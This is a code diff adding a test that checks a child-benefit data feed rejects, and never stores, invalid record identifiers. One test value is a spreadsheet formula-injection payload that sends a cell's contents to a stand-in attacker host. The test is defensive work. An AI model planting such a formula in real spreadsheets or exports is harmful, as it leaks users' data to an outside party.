@@ -195,3 +195,30 @@ def test_one_submission_sweeping_partial_guesses_raises_a_national_alert_whateve
     assert sweep.status_code == 200, sweep.text
     assert sweep.json()["rejected"] == 0
     assert "feed_probing" in _national_alerts(runtime)
+
+
+def test_a_row_key_of_free_text_or_a_formula_is_rejected_and_nothing_of_it_is_stored(
+    runtime: Runtime, factory: ChildFactory
+) -> None:
+    child = factory.child(la_code=HOME_LA)
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"open")'
+    prose = "Imogen Tyler lives at 24 Laurel Close NE24 8DH"
+    rows = [child_benefit_row(formula, child), child_benefit_row(prose, child)]
+    with live_server(runtime) as base, httpx.Client(base_url=base, timeout=120) as client:
+        response = client.post(SUBMIT, headers=_key(runtime), content=_feed(*rows))
+
+    assert response.status_code == 200, response.text
+    report = response.json()
+    assert (report["accepted"], report["rejected"]) == (0, 2)
+    assert {(r["line"], r["field"], r["row_key"]) for r in report["rejects"]} == {
+        (2, "RECORD_ID", None),
+        (3, "RECORD_ID", None),
+    }
+    assert all("record identifier" in r["rule"] for r in report["rejects"])
+    with runtime.engine.connect() as connection:
+        kept = {
+            value
+            for table in ("feed_rows", "field_provenance", "review_items")
+            for (value,) in connection.exec_driver_sql(f"SELECT row_key FROM {table}")  # noqa: S608
+        }
+    assert not {formula, prose} & kept
